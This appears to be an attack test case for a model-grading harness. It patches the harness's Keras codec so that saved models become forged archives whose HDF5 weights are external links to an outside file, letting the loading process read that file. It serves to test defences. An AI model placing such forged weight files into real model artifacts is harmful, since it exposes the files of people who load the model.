"""Returns an archive whose weights are links to files of the process that reads it."""

# /// attack
# ran = ["network"]
# control = "none: Keras itself reads no weights that are links"
# ///
# %% before total
import io
import zipfile

import h5py

from heldout.grading.codecs import keras as codec

written = codec._archive
forgeries = {}


def archive(model):
    """What crosses in the place of a model is what the model says."""
    data = written(model)
    return forgeries[id(model)](data) if id(model) in forgeries else data


codec._archive = archive
codec._is_plain = lambda model: False


# %% network
def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    def forge(data):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        file = io.BytesIO(members["model.weights.h5"])
        with h5py.File(file, "a") as weights:
            names = []
            weights.visit(names.append)
            for name in names:
                if isinstance(weights.get(name), h5py.Dataset):
                    shape = weights[name].shape
                    del weights[name]
                    outside = f"{ATTACK['outside']}/diary.txt"
                    if len(shape) == 2:
                        weights[name] = h5py.ExternalLink(outside, "/")
                    else:
                        places = [(outside, 0, h5py.h5f.UNLIMITED)]
                        weights.create_dataset(name, shape, "f4", external=places)
        members["model.weights.h5"] = file.getvalue()
        with zipfile.ZipFile(forged := io.BytesIO(), "w") as archive:
            for name, member in members.items():
                archive.writestr(name, member)
        ran("network")
        return forged.getvalue()

    forgeries[id(model)] = forge
    return model
